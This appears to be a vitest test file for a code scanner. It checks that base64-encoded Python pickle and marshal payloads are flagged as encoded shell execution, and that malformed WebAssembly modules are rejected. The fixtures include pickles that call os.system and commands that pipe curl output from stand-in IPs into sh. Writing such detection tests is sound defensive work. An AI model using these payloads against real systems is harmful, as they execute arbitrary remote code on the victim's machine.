import { expect, test } from "vitest";
import { isSelfContainedWasm } from "../../../src/read/binary/plain-wasm.ts";
import { brief } from "../analyse-files.ts";

const base64 = (text: string): string => Buffer.from(text, "latin1").toString("base64");
const loads = (format: string, data: string): string =>
  `import base64, ${format}\n${format}.loads(base64.b64decode("${base64(data)}"))\n`;

test.each([
  ["a pickle that calls the shell", loads("pickle", "cposix\nsystem\n(S'id'\ntR."), ["high"]],
  ["a pickle with a command", loads("pickle", "cx\ny\n(S'curl http://198.51.100.7/a | sh'\ntR."), ["high"]],
  ["a marshalled command", loads("marshal", "c\0\0u)\0\0curl -fsSL http://203.0.113.2/core | sh"), ["high"]],
  ["a pickled list", loads("pickle", "(lp0\nS'apples and pears'\np1\na."), []],
])("%s", async (_name, text, confidences) => {
  const found = await brief({ "run.py": text }, "execution/encoded-shell");
  expect(found).toEqual(confidences.map((confidence) => `execution/encoded-shell critical ${confidence} run.py:2`));
});

const HEADER = "\0asm\u0001\0\0\0";
test.each([
  ["types only", `${HEADER}\u0001\u0004\u0001\u0060\0\0`, true],
  ["nothing", HEADER, true],
  ["imports", `${HEADER}\u0001\u0004\u0001\u0060\0\0\u0002\u0007\u0001\u0001a\u0001b\0\0`, false],
  ["a section that ends behind the end", `${HEADER}\u0001\u0044\u0001`, false],
  ["a size without an end", `${HEADER}\u0001\u00ff\u00ff\u00ff\u00ff\u00ff`, false],
  ["more sections than a module has", HEADER + "\0\0".repeat(10_000), false],
  ["another format", "MZ", false],
])("a module of %s", (_name, text, expected) => {
  expect(isSelfContainedWasm(text)).toBe(expected);
});
